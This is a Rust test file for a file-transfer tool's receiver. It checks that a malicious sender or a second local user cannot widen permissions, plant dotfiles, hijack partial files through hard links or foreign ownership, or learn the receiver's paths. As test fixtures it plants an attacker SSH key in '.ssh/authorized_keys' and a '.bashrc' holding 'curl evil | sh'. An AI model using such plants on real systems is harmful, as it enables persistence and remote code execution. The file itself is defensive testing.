//! What a sender can do to the host of a `udt recv` (issue 34), with the `udt` binary over
//! loopback: permissions stay within the receiver's umask and never reach an existing
//! directory; top-level dotfiles need the receiver's consent; a partial file the receiver did
//! not write (another user's, or one hard-linked elsewhere) is never used; expired partials
//! are not resumed; messages to the sender never name `--out`'s absolute path; a resume offer
//! reveals only a length and needs the sender's proof.
//!
//! The attacks of a second local user run under `setpriv --reuid=65534` and are skipped (with
//! a message) when the tests do not run as root.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::SocketAddr;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::mpsc;
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use common::data;
use udt::{Options, UdtStream};

/// Deadline of any one child process.
const DEADLINE: Duration = Duration::from_secs(30);

/// A running `udt` whose standard error is collected line by line; killed on drop.
struct Proc {
    child: Child,
    lines: mpsc::Receiver<String>,
    stderr: Option<JoinHandle<String>>,
}

/// A finished `udt`.
#[derive(Debug)]
struct Done {
    status: ExitStatus,
    stderr: String,
}

impl Proc {
    fn spawn(mut cmd: Command) -> Proc {
        cmd.env_remove("RUST_LOG").env_remove("UDT_CODE");
        cmd.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::piped());
        let mut child = cmd.spawn().expect("spawn udt");
        let err = child.stderr.take().unwrap();
        let (tx, lines) = mpsc::channel();
        let stderr = thread::spawn(move || {
            let mut all = String::new();
            for line in BufReader::new(err).lines() {
                let Ok(line) = line else { break };
                all.push_str(&line);
                all.push('\n');
                let _ = tx.send(line);
            }
            all
        });
        Proc { child, lines, stderr: Some(stderr) }
    }

    /// Wait for the `listening on ADDR` line; the address.
    fn listening_addr(&mut self) -> SocketAddr {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            let line = self.lines.recv_timeout(left).expect("no `listening on` line");
            if let Some(rest) = line.split("listening on ").nth(1) {
                return rest.split([',', ' ']).next().unwrap().parse().unwrap();
            }
        }
    }

    fn wait(mut self) -> Done {
        let deadline = Instant::now() + DEADLINE;
        let status = loop {
            if let Some(s) = self.child.try_wait().unwrap() {
                break s;
            }
            assert!(Instant::now() < deadline, "udt did not finish within {DEADLINE:?}");
            thread::sleep(Duration::from_millis(10));
        };
        let stderr = self.stderr.take().unwrap().join().unwrap();
        Done { status, stderr }
    }
}

impl Drop for Proc {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `udt recv --insecure` into `out` on a loopback port, under `umask` if given.
fn start_recv(out: &Path, extra: &[&str], umask: Option<&str>) -> (Proc, SocketAddr) {
    let udt = env!("CARGO_BIN_EXE_udt");
    let mut cmd = match umask {
        Some(mask) => {
            let mut c = Command::new("sh");
            c.args(["-c", &format!("umask {mask} && exec \"$0\" \"$@\""), udt]);
            c
        }
        None => Command::new(udt),
    };
    cmd.args(["recv", "--insecure", "--listen", "127.0.0.1:0", "--out"]).arg(out).args(extra);
    let mut p = Proc::spawn(cmd);
    let addr = p.listening_addr();
    (p, addr)
}

/// `udt send --insecure FILES... ADDR` to completion.
fn send(files: &[&Path], addr: SocketAddr) -> Done {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_udt"));
    cmd.arg("send").arg("--insecure").args(files).arg(addr.to_string());
    Proc::spawn(cmd).wait()
}

/// Whether the tests run as root with `setpriv` at hand (for a second local user).
fn can_be_nobody() -> bool {
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: needs root to act as a second local user (nobody)");
        return false;
    }
    if Command::new("setpriv").arg("--version").output().is_err() {
        eprintln!("skipped: needs setpriv");
        return false;
    }
    true
}

/// Run `script` under `sh` as user and group 65534, with `input` on its standard input.
fn as_nobody(script: &str, input: &[u8]) {
    let mut child = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c", script])
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    assert!(child.wait().unwrap().success(), "as nobody: {script}");
}

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path).unwrap().mode() & 0o7777
}

fn set_mode(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn set_mtime(path: &Path, t: SystemTime) {
    std::fs::File::open(path).unwrap().set_modified(t).unwrap();
}

/// A partial file as an interrupted transfer by this user leaves it: 0600.
fn plant_own_partial(path: &Path, bytes: &[u8]) {
    std::fs::write(path, bytes).unwrap();
    set_mode(path, 0o600);
}

/// Finding 1: under `umask 077`, an existing directory named by the tree keeps its mode and
/// time (it only receives files), and what is created is masked by the umask.
#[test]
fn umask_077_masks_what_arrives_and_leaves_existing_directories_alone() {
    let src = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    let old = UNIX_EPOCH + Duration::from_secs(1_000_000_000);

    // An existing directory whose only file is refused: nothing may change it.
    let victim = out.path().join("victim");
    std::fs::create_dir(&victim).unwrap();
    std::fs::write(victim.join("a.txt"), "old").unwrap();
    set_mode(&victim, 0o700);
    set_mtime(&victim, old);
    let sent_victim = src.path().join("victim");
    std::fs::create_dir(&sent_victim).unwrap();
    std::fs::write(sent_victim.join("a.txt"), "new").unwrap();
    set_mode(&sent_victim, 0o777);
    set_mtime(&sent_victim, UNIX_EPOCH + Duration::from_secs(2_000_000_000));

    let (recv, addr) = start_recv(out.path(), &[], Some("077"));
    let sent = send(&[&sent_victim], addr);
    assert_eq!(sent.status.code(), Some(1), "a.txt exists: {}", sent.stderr);
    let _ = recv.wait();
    assert_eq!(mode(&victim), 0o700, "the existing directory's mode");
    assert_eq!(std::fs::metadata(&victim).unwrap().modified().unwrap(), old, "and its time");
    assert!(std::fs::read(victim.join("a.txt")).unwrap() == b"old", "victim/a.txt was changed");

    // A new tree, world-writable at the source: masked by 077.
    let fresh = src.path().join("fresh");
    std::fs::create_dir_all(fresh.join("sub")).unwrap();
    std::fs::write(fresh.join("rw.txt"), "rw").unwrap();
    std::fs::write(fresh.join("run.sh"), "#!/bin/sh").unwrap();
    std::fs::write(fresh.join("sub/x.txt"), "x").unwrap();
    std::fs::write(sent_victim.join("new.txt"), "into the existing one").unwrap();
    set_mode(&fresh.join("rw.txt"), 0o666);
    set_mode(&fresh.join("sub/x.txt"), 0o666);
    set_mode(&fresh.join("run.sh"), 0o777);
    set_mode(&fresh.join("sub"), 0o777);
    set_mode(&fresh, 0o777);
    std::fs::remove_file(sent_victim.join("a.txt")).unwrap();

    let (recv, addr) = start_recv(out.path(), &[], Some("077"));
    let sent = send(&[&fresh, &sent_victim], addr);
    assert!(sent.status.success(), "{}", sent.stderr);
    assert!(recv.wait().status.success());
    let got = out.path().join("fresh");
    assert_eq!(mode(&got), 0o700);
    assert_eq!(mode(&got.join("sub")), 0o700);
    assert_eq!(mode(&got.join("rw.txt")), 0o600);
    assert_eq!(mode(&got.join("sub/x.txt")), 0o600);
    assert_eq!(mode(&got.join("run.sh")), 0o700);
    assert_eq!(mode(&victim.join("new.txt")), 0o600);
    assert_eq!(mode(&victim), 0o700, "still the receiver's mode");
}

/// Finding 1: group and other write are never given (whatever the umask), and a directory
/// sent at mode 01000 arrives with owner rwx and no sticky bit.
#[test]
fn no_group_or_other_write_and_a_01000_directory_keeps_owner_rwx() {
    let src = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    let tree = src.path().join("tree");
    std::fs::create_dir_all(tree.join("locked")).unwrap();
    std::fs::write(tree.join("locked/in.txt"), "in").unwrap();
    std::fs::write(tree.join("open.txt"), "open").unwrap();
    std::fs::write(tree.join("tool"), "#!/bin/sh").unwrap();
    set_mode(&tree.join("open.txt"), 0o666);
    set_mode(&tree.join("tool"), 0o4777);
    set_mode(&tree.join("locked"), 0o1000);

    let (recv, addr) = start_recv(out.path(), &[], Some("000"));
    let sent = send(&[&tree], addr);
    assert!(sent.status.success(), "{}", sent.stderr);
    assert!(recv.wait().status.success());
    let got = out.path().join("tree");
    assert_eq!(mode(&got.join("locked")), 0o700, "owner rwx, no sticky bit");
    assert!(std::fs::read(got.join("locked/in.txt")).unwrap() == b"in", "locked/in.txt differs");
    assert_eq!(mode(&got.join("open.txt")), 0o644);
    assert_eq!(mode(&got.join("tool")), 0o755, "no set-user-ID, no group or other write");
    assert_eq!(mode(&got) & 0o022, 0);
}

/// Finding 2: `.ssh/...` and `.bashrc` at the top of a transfer are refused with a reason that
/// says what to do; `proj/.gitignore` arrives; with `--allow-dotfiles`, `.ssh` arrives.
#[test]
fn hidden_top_level_names_need_the_receivers_consent() {
    let src = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    let ssh = src.path().join("evil/.ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(ssh.join("authorized_keys"), "ssh-ed25519 AAAA attacker").unwrap();
    set_mode(&ssh, 0o777);
    let bashrc = src.path().join(".bashrc");
    std::fs::write(&bashrc, "curl evil | sh").unwrap();
    let proj = src.path().join("proj");
    std::fs::create_dir(&proj).unwrap();
    std::fs::write(proj.join(".gitignore"), "target/").unwrap();

    let (recv, addr) = start_recv(out.path(), &[], None);
    let sent = send(&[&ssh, &bashrc, &proj], addr);
    let received = recv.wait();
    assert_eq!(sent.status.code(), Some(1), "{}", sent.stderr);
    assert!(sent.stderr.contains("udt send --as NAME"), "{}", sent.stderr);
    assert!(sent.stderr.contains("udt recv --allow-dotfiles"), "{}", sent.stderr);
    assert!(received.stderr.contains(".ssh"), "{}", received.stderr);
    assert!(!out.path().join(".ssh").exists(), "no .ssh planted");
    assert!(!out.path().join(".bashrc").exists(), "no .bashrc planted");
    assert!(
        std::fs::read(out.path().join("proj/.gitignore")).unwrap() == b"target/",
        "proj/.gitignore differs"
    );

    let (recv, addr) = start_recv(out.path(), &["--allow-dotfiles"], None);
    let sent = send(&[&ssh], addr);
    assert!(sent.status.success(), "{}", sent.stderr);
    assert!(recv.wait().status.success());
    assert!(out.path().join(".ssh/authorized_keys").is_file());
    assert_eq!(mode(&out.path().join(".ssh")) & 0o022, 0, "never group or other writable");
}

/// Finding 3: in a shared 1777 directory another user plants the partial of a file (with the
/// file's true first bytes, the most tempting case): it is not used, not modified, not
/// removed; the file arrives whole, owned by the receiving user.
#[test]
fn a_partial_of_another_user_is_set_aside_untouched() {
    if !can_be_nobody() {
        return;
    }
    let src = tempfile::tempdir().unwrap();
    let shared = tempfile::tempdir().unwrap();
    set_mode(shared.path(), 0o1777);
    let content = data(300_000, 3);
    let file = src.path().join("f.bin");
    std::fs::write(&file, &content).unwrap();
    let partial = shared.path().join(".f.bin.udt-partial");
    as_nobody(&format!("cat > '{}'", partial.display()), &content[..100_000]);
    let planted = std::fs::metadata(&partial).unwrap();
    assert_eq!(planted.uid(), 65534);

    let (recv, addr) = start_recv(shared.path(), &[], None);
    let sent = send(&[&file], addr);
    let received = recv.wait();
    assert!(sent.status.success(), "{}", sent.stderr);
    assert!(!sent.stderr.contains("resuming"), "resumed from another user's partial: {}", sent.stderr);
    assert!(received.stderr.contains("set aside (owned by another user)"), "{}", received.stderr);
    let got = std::fs::metadata(shared.path().join("f.bin")).unwrap();
    assert_eq!(got.uid(), rustix::process::geteuid().as_raw(), "the arrived file is the receiver's");
    assert_eq!(got.nlink(), 1);
    assert!(std::fs::read(shared.path().join("f.bin")).unwrap() == content, "f.bin differs");
    let after = std::fs::metadata(&partial).unwrap();
    assert_eq!((after.ino(), after.uid(), after.len()), (planted.ino(), 65534, 100_000), "untouched");
    assert!(std::fs::read(&partial).unwrap() == content[..100_000], "the planted partial was changed");
}

/// Finding 3: a partial hard-linked to another file (the receiver's own) is not reopened, so
/// that file is not overwritten; the same for a link another user made to their own file.
#[test]
fn a_hard_linked_partial_never_writes_through_the_other_link() {
    let src = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    let content = data(200_000, 4);
    let file = src.path().join("g.bin");
    std::fs::write(&file, &content).unwrap();
    let precious = out.path().join("precious.txt");
    plant_own_partial(&precious, &data(5000, 99));
    std::fs::hard_link(&precious, out.path().join(".g.bin.udt-partial")).unwrap();

    let (recv, addr) = start_recv(out.path(), &[], None);
    let sent = send(&[&file], addr);
    let received = recv.wait();
    assert!(sent.status.success(), "{}", sent.stderr);
    assert!(std::fs::read(&precious).unwrap() == data(5000, 99), "the other link's file was overwritten");
    assert!(std::fs::read(out.path().join("g.bin")).unwrap() == content, "g.bin differs");
    assert!(received.stderr.contains("set aside (it has other hard links)"), "{}", received.stderr);

    if !can_be_nobody() {
        return;
    }
    let shared = tempfile::tempdir().unwrap();
    set_mode(shared.path(), 0o1777);
    let theirs = shared.path().join("theirs.txt");
    as_nobody(
        &format!(
            "cat > '{0}' && ln '{0}' '{1}/.g.bin.udt-partial'",
            theirs.display(),
            shared.path().display()
        ),
        b"their own file",
    );
    let (recv, addr) = start_recv(shared.path(), &[], None);
    let sent = send(&[&file], addr);
    assert!(sent.status.success(), "{}", sent.stderr);
    let _ = recv.wait();
    assert!(std::fs::read(&theirs).unwrap() == b"their own file", "their file was changed through the link");
    assert_eq!(std::fs::metadata(shared.path().join("g.bin")).unwrap().uid(), 0);
}

/// Finding 10: partials expire. One older than `--partial-ttl` is removed at startup; one that
/// expires while the receiver runs is removed when met; `--partial-ttl 0` never resumes; a
/// fresh one of the receiver's own still resumes.
#[test]
fn expired_partials_are_not_resumed() {
    let src = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    let content = data(2_000_000, 5);
    let file = src.path().join("e.bin");
    std::fs::write(&file, &content).unwrap();
    let partial = out.path().join(".e.bin.udt-partial");
    let arrived = out.path().join("e.bin");
    let days_ago = |d: u64| SystemTime::now() - Duration::from_secs(d * 86_400);

    // Four days old: swept at startup (default 3 days).
    plant_own_partial(&partial, &content[..500_000]);
    set_mtime(&partial, days_ago(4));
    let (recv, addr) = start_recv(out.path(), &[], None);
    assert!(!partial.exists(), "swept at startup");
    let sent = send(&[&file], addr);
    let received = recv.wait();
    assert!(sent.status.success() && !sent.stderr.contains("resuming"), "{}", sent.stderr);
    assert!(received.stderr.contains("removed 1 expired partial file"), "{}", received.stderr);
    assert!(std::fs::read(&arrived).unwrap() == content, "e.bin differs");
    std::fs::remove_file(&arrived).unwrap();

    // Expired after the receiver started: removed when met.
    let (recv, addr) = start_recv(out.path(), &["--partial-ttl", "1h"], None);
    plant_own_partial(&partial, &content[..500_000]);
    set_mtime(&partial, SystemTime::now() - Duration::from_secs(7200));
    let sent = send(&[&file], addr);
    assert!(sent.status.success() && !sent.stderr.contains("resuming"), "{}", sent.stderr);
    assert!(recv.wait().status.success());
    assert!(std::fs::read(&arrived).unwrap() == content, "e.bin differs");
    std::fs::remove_file(&arrived).unwrap();

    // Never resume.
    plant_own_partial(&partial, &content[..500_000]);
    let (recv, addr) = start_recv(out.path(), &["--partial-ttl", "0"], None);
    let sent = send(&[&file], addr);
    assert!(sent.status.success() && !sent.stderr.contains("resuming"), "{}", sent.stderr);
    assert!(recv.wait().status.success());
    std::fs::remove_file(&arrived).unwrap();

    // Fresh and the receiver's own: resumed.
    plant_own_partial(&partial, &content[..500_000]);
    let (recv, addr) = start_recv(out.path(), &[], None);
    let sent = send(&[&file], addr);
    assert!(sent.status.success() && sent.stderr.contains("resuming"), "{}", sent.stderr);
    assert!(recv.wait().status.success());
    assert!(std::fs::read(&arrived).unwrap() == content, "e.bin differs");
    assert!(!partial.exists());
}

/// A hand-made sender of the file protocol, version 4, without encryption.
struct RawSender {
    s: UdtStream,
    announced: u32,
}

impl RawSender {
    fn start(addr: SocketAddr, count: u32) -> RawSender {
        let options = Options { read_timeout: Some(Duration::from_secs(10)), ..Options::default() };
        let mut s = UdtStream::connect_with(addr, options).unwrap();
        let mut header = b"UDTF".to_vec();
        header.extend_from_slice(&4u16.to_le_bytes());
        header.extend_from_slice(&0u16.to_le_bytes());
        header.extend_from_slice(&count.to_le_bytes());
        s.write_all(&header).unwrap();
        let mut hello = [0u8; 8];
        s.read_exact(&mut hello).unwrap();
        assert_eq!(&hello[..6], b"UDTR\x04\x00", "the receiver's greeting");
        let mut raw = RawSender { s, announced: 0 };
        assert_eq!(raw.status(), (0, Vec::new()), "session accepted");
        raw
    }

    /// The next status: code and raw body.
    fn status(&mut self) -> (u8, Vec<u8>) {
        let mut head = [0u8; 3];
        self.s.read_exact(&mut head).unwrap();
        let mut body = vec![0u8; usize::from(u16::from_le_bytes([head[1], head[2]]))];
        self.s.read_exact(&mut body).unwrap();
        (head[0], body)
    }

    /// Announce an entry (kind 0: file, 1: directory); the receiver's answer.
    fn announce(&mut self, kind: u8, name: &str, size: u64) -> (u8, Vec<u8>) {
        self.announced += 1;
        let mut fh = vec![b'H', kind];
        fh.extend_from_slice(&(name.len() as u16).to_le_bytes());
        fh.extend_from_slice(name.as_bytes());
        fh.extend_from_slice(&size.to_le_bytes());
        fh.extend_from_slice(&0o644u32.to_le_bytes());
        fh.extend_from_slice(&0i64.to_le_bytes());
        fh.extend_from_slice(&u32::MAX.to_le_bytes());
        self.s.write_all(&fh).unwrap();
        self.status()
    }

    /// The last announced file's data from `start` (with `proof` when `start > 0`), `rest`
    /// in chunks, then `hash`; the verdict.
    fn data(&mut self, start: u64, proof: Option<[u8; 32]>, rest: &[u8], hash: [u8; 32]) -> (u8, Vec<u8>) {
        self.s.write_all(b"D").unwrap();
        self.s.write_all(&(self.announced - 1).to_le_bytes()).unwrap();
        self.s.write_all(&start.to_le_bytes()).unwrap();
        if let Some(proof) = proof {
            self.s.write_all(&proof).unwrap();
        }
        for chunk in rest.chunks(50_000) {
            self.s.write_all(&(chunk.len() as u32).to_le_bytes()).unwrap();
            self.s.write_all(chunk).unwrap();
        }
        self.s.write_all(&hash).unwrap();
        self.status()
    }

    fn end(mut self) {
        self.s.write_all(b"E").unwrap();
        self.s.close().unwrap();
    }
}

/// Finding 10: every refusal a sender can provoke names paths relative to `--out`, never the
/// receiver's absolute path.
#[test]
fn messages_to_the_sender_never_name_the_receivers_directory() {
    let top = tempfile::tempdir().unwrap();
    let out = top.path().join("incoming");
    std::fs::create_dir(&out).unwrap();
    std::fs::write(out.join("blocker"), "a file").unwrap();
    std::os::unix::fs::symlink(top.path(), out.join("lnk")).unwrap();
    std::fs::write(out.join("existing.txt"), "old").unwrap();
    std::fs::create_dir(out.join("adir")).unwrap();
    let (recv, addr) = start_recv(&out, &["--max-size", "1M"], None);
    let entries: [(u8, &str, u64); 8] = [
        (0, "blocker/x.txt", 5),
        (1, "blocker/sub", 0),
        (0, "lnk/x.txt", 5),
        (1, "lnk/sub", 0),
        (0, "existing.txt", 5),
        (0, "adir", 5),
        (0, ".profile", 5),
        (0, "big.bin", 2 << 20),
    ];
    let mut raw = RawSender::start(addr, entries.len() as u32);
    let absolute = [out.display().to_string(), top.path().display().to_string()];
    for (kind, name, size) in entries {
        let (code, msg) = raw.announce(kind, name, size);
        let msg = String::from_utf8(msg).unwrap();
        assert_eq!(code, 1, "{name}: {msg}");
        for path in &absolute {
            assert!(!msg.contains(path.as_str()), "{name}: the message names {path}: {msg}");
        }
    }
    raw.end();
    let _ = recv.wait();
    assert!(
        !top.path().join("x.txt").exists() && !top.path().join("sub").exists(),
        "nothing through the link"
    );
}

/// Finding 10: a resume offer tells the length of what the receiver holds and nothing about its
/// bytes; a sender that cannot prove it holds the same first bytes gets nothing stored and the
/// part discarded; one that can resumes.
#[test]
fn a_resume_offer_reveals_only_the_length_and_needs_the_senders_proof() {
    let out = tempfile::tempdir().unwrap();
    let secret = data(5000, 6);
    let partial = out.path().join(".r.bin.udt-partial");
    plant_own_partial(&partial, &secret[..1000]);
    let (recv, addr) = start_recv(out.path(), &[], None);
    let mut raw = RawSender::start(addr, 2);

    // A sender with other bytes: the offer carries only the offset.
    let guess = data(5000, 8);
    let (code, body) = raw.announce(0, "r.bin", 5000);
    assert_eq!((code, body.len()), (4, 8), "a resume offer of 8 bytes: the offset alone");
    assert_eq!(u64::from_le_bytes(body.try_into().unwrap()), 1000);
    let proof = *blake3::hash(&guess[..1000]).as_bytes();
    let (code, msg) = raw.data(1000, Some(proof), &guess[1000..], *blake3::hash(&guess).as_bytes());
    let msg = String::from_utf8(msg).unwrap();
    assert_eq!(code, 1, "{msg}");
    assert!(msg.contains("differ") && msg.contains("send the file again"), "{msg}");
    assert!(!partial.exists(), "the part is discarded");
    assert!(!out.path().join("r.bin").exists(), "nothing stored");

    // The rightful sender, with a part held again: resumes on its proof.
    plant_own_partial(&partial, &secret[..1000]);
    let (code, body) = raw.announce(0, "r.bin", 5000);
    assert_eq!((code, body), (4, 1000u64.to_le_bytes().to_vec()));
    let proof = *blake3::hash(&secret[..1000]).as_bytes();
    let (code, msg) = raw.data(1000, Some(proof), &secret[1000..], *blake3::hash(&secret).as_bytes());
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&msg));
    raw.end();
    let _ = recv.wait();
    assert!(std::fs::read(out.path().join("r.bin")).unwrap() == secret, "r.bin differs");
    assert!(!partial.exists());
}
